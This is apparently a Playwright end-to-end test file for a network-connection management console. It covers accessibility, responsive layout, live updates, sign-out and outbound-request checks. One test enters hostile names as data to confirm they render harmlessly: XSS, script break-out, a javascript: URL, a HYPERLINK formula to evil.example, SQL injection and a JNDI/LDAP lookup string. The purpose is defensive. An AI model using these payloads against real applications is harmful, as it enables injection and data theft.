// Every page as people with other eyes, hands, windows and intentions meet it: axe in light and
// dark, a phone and a 4K screen, names that were typed to do harm, live updates under a typing
// hand, and the end of a session.
import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { chromiumPath, desktop, fourK, openBrowser, phone } from './support/browser.ts'
import { deskAt, type Desk } from './support/console.ts'
import { estate, type Estate } from './support/estate.ts'
import { blueId, partnerId, servedHouse, until, type ServedHouse } from './support/house.ts'

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')

interface Finding {
  readonly id: string
  readonly impact: string
  readonly nodes: readonly { readonly html: string }[]
}

/** What axe finds serious or critical on the page as it is. */
async function findings(page: Page): Promise<readonly string[]> {
  await page.evaluate(axe)
  const rules = JSON.stringify({ runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] })
  const { violations: found } = await page.evaluate<{ readonly violations: readonly Finding[] }>(`axe.run(document, ${rules})`)
  return found
    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
    .map(
      ({ id, nodes }) =>
        `${id}: ${nodes
          .map(({ html }) => html.slice(0, 160))
          .slice(0, 3)
          .join(' | ')}`,
    )
}

const pagesOf = (made: Estate): readonly string[] => [
  '/inbox',
  '/topology',
  '/connections',
  `/connections/${made.connectionId}`,
  `/connections/${made.connectionId}?tab=interfaces`,
  `/connections/${made.connectionId}?tab=vlans`,
  `/connections/${made.connectionId}?tab=macsec`,
  `/connections/${made.connectionId}?tab=timeline`,
  `/connections/${made.connectionId}?tab=tags`,
  `/connections/${made.hostedConnectionId}`,
  '/virtual-interfaces',
  `/virtual-interfaces/${made.privateId}`,
  `/virtual-interfaces/${made.privateId}?tab=peers`,
  `/virtual-interfaces/${made.privateId}?tab=routes`,
  `/virtual-interfaces/${made.privateId}?tab=router`,
  `/virtual-interfaces/${made.privateId}?tab=tests`,
  `/virtual-interfaces/${made.privateId}?tab=timeline`,
  `/virtual-interfaces/${made.confirmingId}`,
  `/create-virtual-interface?connection=${made.connectionId}`,
  '/lags',
  `/lags/${made.lagId}`,
  `/lags/${made.lagId}?tab=connections`,
  '/gateways',
  `/gateways/${made.gatewayId}`,
  `/gateways/${made.gatewayId}?tab=attachments`,
  `/gateways/${made.gatewayId}?tab=associations`,
  `/gateways/${made.gatewayId}?tab=proposals`,
  '/virtual-gateways',
  `/virtual-gateways/${made.virtualGatewayId}`,
  '/locations',
  '/resiliency-groups',
  '/account',
  '/nowhere',
]

describe.skipIf(chromiumPath === undefined)('every page', () => {
  let house: ServedHouse
  let made: Estate
  let browser: { readonly context: BrowserContext } & AsyncDisposable
  let desk: Desk
  let page: Page

  beforeAll(async () => {
    house = await servedHouse()
    made = await estate(house)
    browser = await openBrowser()
    desk = await deskAt(house, browser.context)
    page = desk.page
    await desk.become('Blue Customer')
  })
  afterAll(async () => {
    await browser?.[Symbol.asyncDispose]()
    await house?.[Symbol.asyncDispose]()
  })

  const settled = async () => {
    await page.locator('[class*="awsui_spinner"]').first().waitFor({ state: 'detached' })
  }

  it('has nothing serious that axe finds, in light and in dark', async () => {
    const found: string[] = []
    for (const dark of [false, true]) {
      if (dark) await page.getByRole('button', { name: 'Use dark colours' }).click()
      // Colours come from two sheets of variables, so in the dark one page of each kind is enough.
      for (const path of dark ? pagesOf(made).filter((_path, index) => index % 3 === 0) : pagesOf(made)) {
        await desk.go(path)
        await settled()
        for (const finding of await findings(page)) found.push(`${dark ? 'dark' : 'light'} ${path} ${finding}`)
      }
    }
    await page.getByRole('button', { name: 'Use light colours' }).click()
    expect(found).toEqual([])
  }, 120_000)

  it('has dialogs with nothing serious either', async () => {
    const found: string[] = []
    const look = async (name: string) => {
      await page.getByRole('dialog').waitFor()
      for (const finding of await findings(page)) found.push(`${name} ${finding}`)
      await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click()
    }
    await desk.go('/connections')
    await page.getByRole('button', { name: 'Create connection' }).first().click()
    await look('create connection')
    await desk.go(`/virtual-interfaces/${made.privateId}`)
    for (const action of ['Edit', 'Add peering', 'Bring down BGP (failover test)', 'Delete']) {
      await page.getByRole('button', { name: 'Actions' }).first().click()
      await page.getByRole('menuitem', { name: action }).click()
      await look(action)
    }
    expect(found).toEqual([])
  })

  it('says why an action is not possible now', async () => {
    await desk.go(`/virtual-interfaces/${made.privateId}`)
    await page.getByRole('button', { name: 'Actions' }).first().click()
    const accept = page.getByRole('menuitem', { name: 'Accept' })
    expect(await accept.getAttribute('aria-disabled')).toBe('true')
    await accept.hover()
    await page.getByText('It does not wait for acceptance.').locator('visible=true').first().waitFor()
    await page.keyboard.press('Escape')
  })

  it('can be used with the keyboard alone', async () => {
    await desk.go('/virtual-interfaces')
    const link = page.getByRole('link', { name: 'Production north' })
    await link.focus()
    await page.keyboard.press('Enter')
    await page.getByRole('heading', { level: 1, name: 'Production north' }).waitFor()
    await page
      .getByRole('button', { name: /^BGP ?Up/ })
      .first()
      .focus()
    await page.keyboard.press('Enter')
    await page.getByText(/The provider’s side is 169\.254\./).waitFor()
    expect(
      await page
        .getByRole('button', { name: /^BGP ?Up/ })
        .first()
        .getAttribute('aria-pressed'),
    ).toBe('true')
  })

  it.each([
    ['a phone', phone],
    ['a 4K screen', fourK],
  ])('fits %s without scrolling sideways', async (_name, size) => {
    await page.setViewportSize(size)
    const wide: string[] = []
    for (const path of [
      '/connections',
      '/virtual-interfaces',
      `/virtual-interfaces/${made.privateId}`,
      '/inbox',
      '/topology',
      '/create-virtual-interface',
      '/locations',
    ]) {
      await desk.go(path)
      await settled()
      const over = await page.evaluate<number>('document.documentElement.scrollWidth - document.documentElement.clientWidth')
      if (over > 0) wide.push(`${path} by ${over} px`)
    }
    await page.setViewportSize(desktop)
    expect(wide).toEqual([])
  })

  it('updates by itself while another client changes things, and keeps what is being typed', async () => {
    const blue = house.as(blueId)
    await desk.go('/connections')
    await page.getByRole('row', { name: /Ashburn north/ }).waitFor()
    await blue.createConnection({ connectionName: 'Made elsewhere', bandwidth: '1Gbps', location: 'EqDC2' })
    await page.getByRole('row', { name: /Made elsewhere.*Available/ }).waitFor()

    await desk.go(`/create-virtual-interface?connection=${made.connectionId}`)
    const name = page.getByLabel('Virtual interface name', { exact: true })
    const vlan = page.getByLabel('VLAN', { exact: true })
    await name.fill('Being typed')
    await vlan.fill('901')
    await vlan.blur()
    await name.focus()
    await blue.createPrivateVirtualInterface({
      connectionId: made.connectionId,
      newPrivateVirtualInterface: { virtualInterfaceName: 'Quicker', vlan: 901, asn: 65_009, directConnectGatewayId: made.gatewayId },
    })
    // The other's interface shows as a taken VLAN, and nothing that was typed is lost.
    await page.getByText(/VLAN 901 is taken by Quicker/).waitFor()
    expect(await name.inputValue()).toBe('Being typed')
    expect(await page.evaluate('document.activeElement.value')).toBe('Being typed')
  })

  it('says as code what it shows, and what was just done', async () => {
    await desk.go(`/connections/${made.connectionId}`)
    await page.getByRole('button', { name: 'Show as code' }).first().click()
    await page.getByText(`--connection-id ${made.connectionId}`).first().waitFor()
    await page.getByRole('tab', { name: 'Terraform' }).click()
    await page.getByText(`id = "${made.connectionId}"`).first().waitFor()
    await page.getByRole('button', { name: 'Hide code' }).click()
    expect(desk.complaints).toEqual([])
  })

  const hostile = [
    '<img src=x onerror="globalThis.harmed=1">',
    '</script><script>globalThis.harmed=1</script>',
    'javascript:globalThis.harmed=1',
    '=HYPERLINK("http://evil.example","x")',
    "'; DROP TABLE connections; --",
    '\u202Egnp.exe',
    '${jndi:ldap://evil.example}',
    `a very long name ${'x'.repeat(80)}`,
  ]

  it('shows names and tags that were typed to do harm as the text they are', async () => {
    const blue = house.as(blueId)
    const places: string[] = []
    for (const [index, connectionName] of hostile.entries()) {
      const { connectionId } = await blue.createConnection({
        connectionName,
        bandwidth: '1Gbps',
        location: 'EqDC2',
        tags: [{ key: `k${index}`, value: 'https://evil.example/=+-@' }],
      })
      places.push(`/connections/${connectionId}`)
    }
    const { directConnectGateway } = await blue.createDirectConnectGateway({ directConnectGatewayName: hostile[0] })
    const vi = await blue.createPrivateVirtualInterface({
      connectionId: made.connectionId,
      newPrivateVirtualInterface: {
        virtualInterfaceName: hostile[1],
        vlan: 999,
        asn: 65_005,
        directConnectGatewayId: directConnectGateway?.directConnectGatewayId,
      },
    })
    const handed = await house.as(partnerId).allocateHostedConnection({
      connectionId: made.interconnectId,
      ownerAccount: blueId,
      bandwidth: '50Mbps',
      connectionName: hostile[0],
      vlan: 999,
    })
    places.push(
      '/connections',
      '/virtual-interfaces',
      `/virtual-interfaces/${vi.virtualInterfaceId}`,
      `/gateways/${directConnectGateway?.directConnectGatewayId}`,
      '/gateways',
      '/inbox',
      '/topology',
      `/connections/${handed.connectionId}`,
      `/connections/${made.connectionId}?tab=vlans`,
      `/create-virtual-interface`,
    )
    for (const path of places) {
      await desk.go(path)
      await settled()
    }
    await desk.go('/connections')
    await page
      .getByRole('link', { name: hostile[0] ?? '', exact: true })
      .first()
      .waitFor()
    expect(await page.evaluate(() => 'harmed' in globalThis)).toBe(false)
    expect(await page.locator('img[src="x"]').count()).toBe(0)

    const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save as CSV' }).click()])
    const csv = readFileSync(await file.path(), 'utf8')
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`)
    expect(csv).not.toMatch(/(^|,)"[=+\-@]/m)
  })

  it('asks nothing of any other host', async () => {
    const foreign: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(house.sandbox.endpoint) && !request.url().startsWith('blob:')) foreign.push(request.url())
    })
    for (const path of ['/topology', '/locations', `/virtual-interfaces/${made.privateId}`]) await desk.go(path)
    expect(foreign).toEqual([])
  })

  it('gave the browser no reason to complain', () => {
    expect(desk.complaints).toEqual([])
  })

  it('ends with signing out, and a session that ended leads to the door with what happened', async () => {
    await desk.go('/connections')
    // As if it had expired: the cookie is gone, the page is still open.
    await browser.context.clearCookies()
    await house.as(blueId).createConnection({ connectionName: 'After the end', bandwidth: '1Gbps', location: 'EqDC2' })
    await page.getByText('You are signed out, or your session ended.').waitFor()
    expect(await findings(page)).toEqual([])

    await page.goto(house.sandbox.newConsoleUrl() ?? '')
    await page.getByRole('heading', { level: 1, name: 'Connections' }).waitFor()
    await page.getByRole('button', { name: /^Account / }).click()
    await page.getByRole('menuitem', { name: 'Sign out' }).click()
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    await page.reload()
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    const cookies = await browser.context.cookies()
    expect(cookies.filter(({ value }) => value !== '')).toEqual([])
  })

  it('opens a link only once, and says so', async () => {
    const link = house.sandbox.newConsoleUrl() ?? ''
    await page.goto(link)
    await page.getByRole('heading', { level: 1, name: 'Connections' }).waitFor()
    await browser.context.clearCookies()
    await page.goto(link)
    await page.getByText('This link was used already').waitFor()
    expect(await until('the page is there', async () => page.title())).toContain('Demarc')
  })
})
